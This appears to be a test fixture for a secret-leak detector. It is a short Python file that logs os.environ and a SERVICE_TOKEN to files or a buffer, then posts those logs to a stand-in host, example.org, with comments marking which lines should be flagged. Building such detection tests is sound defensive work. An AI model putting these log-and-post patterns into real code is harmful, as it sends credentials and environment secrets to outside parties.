import io
import logging
import os
from logging.handlers import RotatingFileHandler
from pathlib import Path

import requests

URL = "https://example.org/"
logging.basicConfig(filename="run.log", level=logging.INFO)
logging.info(os.environ)
requests.post(URL, data=open("run.log").read())
requests.post(URL, data=Path("run.log").read_text())
logger = logging.getLogger(__name__)
logger.addHandler(logging.FileHandler("own.log"))
logger.addHandler(RotatingFileHandler("old.log"))
logger.warning("%s", os.environ["SERVICE_TOKEN"])
requests.post(URL, files={"log": open("own.log", "rb")})
requests.post(URL, files={"log": open("old.log", "rb")})
buffer = io.StringIO()
logger.addHandler(logging.StreamHandler(buffer))
requests.post(URL, data=buffer.getvalue())
requests.post(URL, data=open("other.log").read())
# expect 12 any.secret-sent
# expect 13 any.secret-sent
# expect 18 any.secret-sent
# expect 19 any.secret-sent
# expect 22 any.secret-sent
